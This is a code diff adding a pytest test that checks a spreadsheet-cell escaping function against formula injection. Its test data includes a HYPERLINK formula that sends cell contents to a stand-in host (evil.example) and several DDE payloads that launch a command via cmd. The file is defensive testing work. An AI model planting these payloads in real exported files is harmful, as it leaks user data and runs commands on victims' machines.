@@ -78,3 +78,26 @@ def test_record_ids(raw: str, expected) -> None:
 )
 def test_terminal_text(text: str, shown: str) -> None:
     assert untrusted.terminal(text) == shown
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ('=HYPERLINK("https://evil.example/?x="&A1,"Click")', '\'=HYPERLINK("https://evil.example/?x="&A1,"Click")'),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("\n=1+1", "'\n=1+1"),
+        ("＝1+1", "'＝1+1"),  # full-width equals sign
+        ("We will = they will", "We will = they will"),  # only the first character starts a formula
+        ("“=1+1,” he said", "“=1+1,” he said"),
+        ("", ""),
+        (-3, -3),  # numbers are numbers
+        (0.5, 0.5),
+        (None, None),
+    ],
+)
+def test_spreadsheet_cells(value, cell) -> None:
+    assert untrusted.spreadsheet_cell(value) == cell
